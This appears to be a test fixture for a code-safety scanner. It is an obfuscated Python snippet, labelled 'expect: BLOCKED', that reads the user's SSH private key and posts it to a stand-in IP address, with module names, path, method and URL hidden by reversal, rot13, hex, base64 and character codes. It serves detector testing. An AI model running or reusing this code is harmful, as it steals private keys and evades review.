# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/ssh_key_post.py technique: encode+getattr
os = __import__('so'[::-1])
requests = __import__(__import__('codecs').decode('erdhrfgf', 'rot13'))
with open(os.path.expanduser(getattr(bytes, ''.join(['f', 'r', 'o', 'm', 'h', 'e', 'x']))('7e2f2e7373682f69645f727361').decode())) as handle:
    key = getattr(handle, __import__('base64').b64decode('cmVhZA==').decode())()
getattr(requests, bytes.fromhex('706f7374').decode())(''.join(map(chr, [104, 116, 116, 112, 115, 58, 47, 47, 50, 48, 51, 46, 48, 46, 49, 49, 51, 46, 57, 47, 99, 111, 108, 108, 101, 99, 116])), data={'k': key}, timeout=10)
